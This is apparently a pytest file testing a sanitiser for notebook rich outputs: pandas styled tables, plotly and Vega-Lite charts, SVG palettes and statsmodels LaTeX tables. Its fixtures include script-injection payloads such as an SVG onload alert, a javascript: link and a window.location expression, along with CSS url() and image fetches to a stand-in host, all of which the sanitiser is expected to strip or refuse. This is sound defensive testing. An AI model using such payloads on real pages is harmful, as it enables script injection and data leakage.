    styled = frame.style.background_gradient().highlight_max(color="yellow").format("{:.2f}")
    source = styled.to_html()
    markup = html_of({"text/html": source})
    assert_inert(markup)
    scope = parse_tags(markup)[0][1]["class"]
    assert "3.25" in markup
    assert "0.12" in markup  # (the format's two places)
    ids = {attrs["id"] for _, attrs in parse_tags(markup) if "id" in attrs}
    assert ids  # the table and its cells keep their ids, renamed
    for found in re.finditer(r"#(T_\w+_row(\d)_col(\d)) ", source):
        assert f".{scope} #rewyn-{found.group(1)} " in markup
        assert f"rewyn-{found.group(1)}" in ids
    assert "background-color: yellow" in markup
    # every colour of the source's rules (the gradient's, the highlight's) is kept
    assert markup.count("background-color: ") == source.count("background-color: ") >= 4


def test_inline_style_keeps_the_same_properties_as_a_stylesheet() -> None:
    markup = html_of(
        {
            "text/html": '<span style="color: #123456; background-color: rgb(1, 2, 3); '
            'border: 1px solid red; font-weight: bold; text-align: right; width: 4em">1</span>'
        }
    )
    assert (
        'style="color: #123456; background-color: rgb(1, 2, 3); border: 1px solid red; '
        'font-weight: bold; text-align: right; width: 4em"'
    ) in markup


# -- charts: plotly ---------------------------------------------------------------------------

PLOTLY = "application/vnd.plotly.v1+json"
VEGALITE = "application/vnd.vegalite.v5+json"


def plotly_figure() -> dict[str, Any]:
    """A real plotly figure as plotly.py sends it (``fig.to_plotly_json()`` through JSON)."""
    import json

    import plotly.express as px

    figure = px.scatter(
        x=[1, 2, 3], y=[4, 1, 2], color=["a", "b", "a"], title="<b>Bold</b> title<br><sup>sub</sup>"
    )
    figure.add_annotation(x=2, y=1, text="<i>low</i> point", showarrow=True)
    figure.update_layout(
        updatemenus=[{"buttons": [{"method": "restyle", "args": ["mode", "lines"]}]}]
    )
    value: dict[str, Any] = json.loads(figure.to_json())
    value["config"] = {"displaylogo": False, "responsive": True}
    return value


KEPT_PLOTLY_TAG = r"</?(br|b|i|sup|span|extra)( style='[^'<>]*'| style=\"[^\"<>]*\")?>"


def plotly_strings(value: Any) -> list[str]:
    if isinstance(value, str):
        return [value]
    if isinstance(value, list):
        return [text for item in value for text in plotly_strings(item)]
    if isinstance(value, dict):
        return [text for item in value.values() for text in plotly_strings(item)]
    return []


def test_a_plotly_figure_is_kept_with_its_data_layout_and_display_options() -> None:
    figure = plotly_figure()
    result = filter_bundle({PLOTLY: figure, "text/html": "<div>no js</div>"}, {})
    assert result.dropped == ()
    kept = result.data[PLOTLY]
    assert kept["data"] == figure["data"]  # (its hover templates: <br>, <extra></extra>)
    assert kept["layout"] == figure["layout"]  # (its template, title tags, annotation, menu)
    # Its display options stay; MathJax does not typeset its text.
    assert kept["config"] == {"displaylogo": False, "responsive": True, "typesetMath": False}


def test_a_plotly_figure_loses_its_links_and_fetched_images_and_keeps_the_rest() -> None:
    pixel = f"data:image/png;base64,{PNG}"
    figure = {
        "data": [
            {
                "type": "scatter",
                "x": [1, 2],
                "y": [3, 4],
                "hovertemplate": '<a href="https://e.example/?d=1">click</a> %{x}<extra></extra>',
                # A tag made of two values a template puts together ("%{customdata[0]}..."):
                "customdata": [["<", "a href='https://o.example/'>x"], ["<a", ">"]],
                "text": [
                    '<span style="color:red;cursor:url(https://e.example/c),auto">red</span>',
                    "<span style='color: blue'>blue</span> <A HREF=\"https://e.example/\">A</A>",
                ],
            },
            {"type": "image", "source": "https://e.example/i.png"},
            {"type": "image", "source": pixel},
        ],
        "layout": {
            "title": {"text": "x < y > z"},
            "images": [{"source": "https://e.example/logo.png"}, {"source": pixel}],
            "template": {"layout": {"images": [{"source": "//e.example/t.png"}]}},
            "updatemenus": [
                {"buttons": [{"method": "relayout", "args": [{"images[0].source": "/api/x"}]}]}
            ],
        },
        "config": {
            "topojsonURL": "https://e.example/topo/",
            "plotlyServerURL": "https://e.example/",
            "showLink": True,
            "showEditInChartStudio": True,
            "typesetMath": True,
            "scrollZoom": True,
        },
        "unknown": {"x": 1},
    }
    result = filter_bundle({PLOTLY: figure}, {})
    assert result.dropped == ()
    assert result.sanitised == (PLOTLY,)
    kept = result.data[PLOTLY]
    text = json.dumps(kept)
    assert "e.example" not in text
    assert "/api/x" not in text
    assert "url(" not in text
    for string in plotly_strings(kept):  # no link, in any case; no < that opens a tag of its own
        assert "<a" not in string.lower(), string
        assert "<" not in re.sub(KEPT_PLOTLY_TAG, "", string), string
    trace = kept["data"][0]
    assert trace["hovertemplate"] == "click %{x}<extra></extra>"
    assert trace["customdata"] == [["&lt;", "a href='https://o.example/'&gt;x"], ["&lt;a", "&gt;"]]
    assert trace["text"][0] == '<span style="color: red">red</span>'
    assert trace["text"][1] == '<span style="color: blue">blue</span> A'
    assert "source" not in kept["data"][1]
    assert kept["data"][2]["source"] == pixel
    assert kept["layout"]["title"]["text"] == "x &lt; y &gt; z"
    assert kept["layout"]["images"] == [{}, {"source": pixel}]
    assert kept["layout"]["template"]["layout"]["images"] == [{}]
    assert kept["config"] == {"scrollZoom": True, "typesetMath": False}
    assert "unknown" not in kept


@pytest.mark.parametrize(
    ("figure", "reason"),
    [
        ({"data": [{"type": "scattermapbox", "lat": [1], "lon": [2]}]}, "map"),
        ({"data": [{"type": "scattermap", "lat": [1], "lon": [2]}]}, "map"),
        ({"data": [{"type": "choropleth", "locations": ["FRA"], "z": [1]}]}, "map"),
        ({"data": [{"type": "densitymap", "lat": [1], "lon": [2]}]}, "map"),
        ({"data": [{"type": "scatter"}], "frames": [{"data": [{"type": "scattergeo"}]}]}, "map"),
        (
            {
                "data": [{"type": "scatter"}],
                "layout": {
                    "updatemenus": [
                        {"buttons": [{"method": "restyle", "args": [{"type": "scattergeo"}]}]}
                    ]
                },
            },
            "map",
        ),
        ({"data": [{"type": "evil-plugin"}]}, "type"),
        ({"data": "not a list"}, "list"),
        ([1, 2], "object"),
        ({"data": [], "layout": {"big": "x" * MAX_VALUE_BYTES}}, "too large"),
    ],
)
def test_a_plotly_figure_that_would_fetch_is_refused_with_a_note(figure: Any, reason: str) -> None:
    result = filter_bundle({PLOTLY: figure, "text/plain": "Figure"}, {})
    assert result.data == {"text/plain": "Figure"}
    [dropped] = result.dropped
    assert dropped.startswith(PLOTLY + " (")
    assert reason in dropped
    assert reason in drop_note(result.dropped)


def test_a_deeply_nested_chart_is_refused() -> None:
    value: Any = {"x": 1}
    for _ in range(100_000):
        value = {"a": value}
    for mime in (PLOTLY, VEGALITE):
        result = filter_bundle({mime: {"data": [], "layout": value}}, {})
        [dropped] = result.dropped
        assert "nested deeper than" in dropped
    # (the default template of plotly.py is nowhere near the bound)
    assert filter_bundle({PLOTLY: plotly_figure()}, {}).dropped == ()


# -- charts: Vega-Lite ------------------------------------------------------------------------


def altair_spec() -> dict[str, Any]:
    """A real Altair chart's Vega-Lite spec: inline data, an interactive selection, tooltips."""
    import altair as alt
    import pandas as pd

    frame = pd.DataFrame({"a": ["x", "y", "z"], "b": [1, 3, 2], "url": ["u1", "u2", "u3"]})
    brush = alt.selection_point(fields=["a"], on="pointerover")
    chart = (
        alt.Chart(frame, title="bars")
        .mark_bar(cursor="pointer")
        .encode(
            x="a:N",
            y="b:Q",
            color=alt.condition(brush, alt.value("steelblue"), alt.value("grey")),
            tooltip=["a", "b", "url"],
        )
        .add_params(brush)
        .interactive()
    )
    spec: dict[str, Any] = chart.to_dict()
    return spec


def test_an_altair_chart_with_inline_data_is_kept_unchanged() -> None:
    spec = altair_spec()
    assert spec["$schema"].startswith("https://vega.github.io/schema/vega-lite/v5")
    for mime in (VEGALITE, "application/vnd.vegalite.v4+json", "application/vnd.vega.v5+json"):
        result = filter_bundle({mime: spec}, {mime: {"embed_options": {"loader": {}}}})
        assert result.data == {mime: spec}
        assert result.dropped == ()
        assert result.metadata == {}  # (vega-embed's options come only from the kernel: none)


@pytest.mark.parametrize(
    ("change", "reason"),
    [
        ({"data": {"url": "https://e.example/data.csv"}}, "URL"),
        ({"data": {"url": "/api/contents/secret.csv"}}, "URL"),
        ({"mark": "image", "encoding": {"url": {"field": "u"}}}, "URL"),
        ({"mark": {"type": "image", "url": "https://e.example/i.png"}}, "URL"),
        ({"transform": [{"calculate": "datum.b * 2", "as": "c"}]}, "expression"),
        ({"transform": [{"filter": "datum.b > 1"}]}, "expression"),
        ({"transform": [{"filter": {"and": [{"field": "b", "gt": 1}, "datum.b"]}}]}, "expression"),
        ({"encoding": {"color": {"condition": {"test": "datum.b", "value": "red"}}}}, "expression"),
        ({"params": [{"name": "p", "expr": "window.location"}]}, "expression"),
        ({"mark": {"type": "bar", "opacity": {"expr": "1"}}}, "expression"),
        ({"params": [{"name": "s", "select": {"type": "point", "on": "click[event.x]"}}]}, "event"),
        ({"signals": [{"name": "s", "init": "window"}]}, "expression"),
        ({"mark": {"type": "bar", "cursor": "url(https://e.example/c.png), auto"}}, "url()"),
        ({"config": {"background": "u\\72 l(/api/x)"}}, "url()"),
    ],
)
def test_a_vega_lite_spec_that_fetches_or_runs_an_expression_is_refused(
    change: dict[str, Any], reason: str
) -> None:
    spec = {**altair_spec(), **change}
    result = filter_bundle({VEGALITE: spec, "text/plain": "alt.Chart(...)"}, {})
    assert result.data == {"text/plain": "alt.Chart(...)"}
    [dropped] = result.dropped
    assert dropped.startswith(VEGALITE + " (")
    assert reason in dropped


def test_a_vega_lite_spec_loses_its_links_embed_options_and_foreign_schema() -> None:
    spec = altair_spec()
    hostile = {
        **spec,
        "$schema": "https://e.example/schema.json",
        "usermeta": {"embedOptions": {"loader": {"baseURL": "https://e.example/"}}},
        "encoding": {**spec["encoding"], "href": {"field": "url"}},
        "params": [
            *spec["params"],
            {"name": "n", "value": 1, "bind": {"input": "range", "element": "#main"}},
        ],
    }
    result = filter_bundle({VEGALITE: hostile}, {})
    assert result.dropped == ()
    kept = result.data[VEGALITE]
    assert "$schema" not in kept
    assert "usermeta" not in kept
    assert "href" not in kept["encoding"]
    assert kept["params"][-1] == {"name": "n", "value": 1, "bind": {"input": "range"}}
    assert {
        **kept,
        "$schema": spec["$schema"],
        "encoding": spec["encoding"],
        "params": spec["params"],
    } == spec


# -- inline SVG in HTML, LaTeX tables ---------------------------------------------------------

# seaborn's palette (seaborn.palettes._ColorPalette._repr_html_), as it writes it.
PALETTE_HTML = (
    '<svg  width="110" height="55">'
    '<rect x="0" y="0" width="55" height="55" style="fill:#1f77b4;'
    'stroke-width:2;stroke:rgb(255,255,255)"/>'
    '<rect x="55" y="0" width="55" height="55" style="fill:#ff7f0e;'
    'stroke-width:2;stroke:rgb(255,255,255)"/></svg>'
)


@pytest.mark.parametrize(
    "markup",
    [PALETTE_HTML, '\n<SVG viewBox="0 0 1 1" onload="alert(1)"><script>alert(2)</script></SVG>\n'],
)
def test_html_that_is_an_svg_shows_as_an_image_of_it(markup: str) -> None:
    result = filter_bundle({"text/html": markup, "text/plain": "palette"}, {})
    assert result.dropped == ()
    assert result.sanitised == ("text/html",)
    [(tag, attrs)] = parse_tags(result.data["text/html"])
    assert tag == "img"
    prefix = "data:image/svg+xml;base64,"
    assert attrs["src"].startswith(prefix)
    document = base64.b64decode(attrs["src"][len(prefix) :]).decode()
    # An image's SVG must be in the SVG namespace, which inline SVG in HTML need not say.
    assert document.startswith('<svg xmlns="http://www.w3.org/2000/svg"') or document.startswith(
        '<SVG xmlns="http://www.w3.org/2000/svg"'
    )
    assert document.replace(' xmlns="http://www.w3.org/2000/svg"', "", 1) == markup.strip()
    assert_inert(result.data["text/html"])


def test_html_with_an_svg_among_other_markup_is_sanitised_as_html() -> None:
    markup = "<p>text</p>" + PALETTE_HTML
    assert filter_bundle({"text/html": markup}, {}).data == {"text/html": "<p>text</p>"}


# statsmodels' summary table as text/latex (SimpleTable.as_latex_tabular, booktabs rules).
STATSMODELS_LATEX = r"""\begin{center}
\begin{tabular}{lclc}
\toprule
\textbf{Dep. Variable:}    &        y         & \textbf{  R-squared:         } &     0.933   \\
\textbf{Model:}            &       OLS        & \textbf{  Adj. R-squared:    } &     0.931   \\
\midrule
                & \textbf{coef} & \textbf{std err} & \textbf{t} & \textbf{P$> |$t$|$} \\
\midrule
\textbf{x\_1}  &       0.4687  &        0.026     &    17.751  &         0.000        \\
\cmidrule(lr){2-3}
\bottomrule
\end{tabular}
%\caption{OLS Regression Results}
\end{center}"""


# statsmodels' Summary2 (a mixed model's summary): a table of tabulars, ended by \bigskip.
SUMMARY2_LATEX = r"""\begin{table}
\caption{Mixed Linear Model Regression Results}
\label{}
\begin{center}
\begin{tabular}{llll}
\hline
Model:            & MixedLM & Dependent Variable: & y         \\
\hline
\end{tabular}
\end{center}

\begin{center}
\begin{tabular}{lrrrrrr}
\hline
          &  Coef. & Std.Err. &      z & P$> |$z$|$ & [0.025 & 0.975]  \\
\hline
Intercept &  0.082 &    0.179 &  0.458 &       0.647 & -0.269 &  0.433  \\
\hline
\end{tabular}
\end{center}
\end{table}
\bigskip
"""


@pytest.mark.parametrize("table", [STATSMODELS_LATEX, SUMMARY2_LATEX], ids=["summary", "summary2"])
def test_a_statsmodels_latex_table_is_kept(table: str) -> None:
    result = filter_bundle({"text/latex": table, "text/plain": "summary"}, {})
    assert result.dropped == ()
    assert result.data["text/latex"] == table


def test_a_latex_table_with_a_link_or_style_is_still_dropped() -> None:
    for hostile in ("\\href{javascript:alert(1)}{x}", "\\class{jp-Dialog}{x}", "\\unicode{x}"):
        table = STATSMODELS_LATEX.replace("\\toprule", "\\toprule " + hostile)
        result = filter_bundle({"text/latex": table, "text/plain": "summary"}, {})
        assert result.data == {"text/plain": "summary"}, hostile
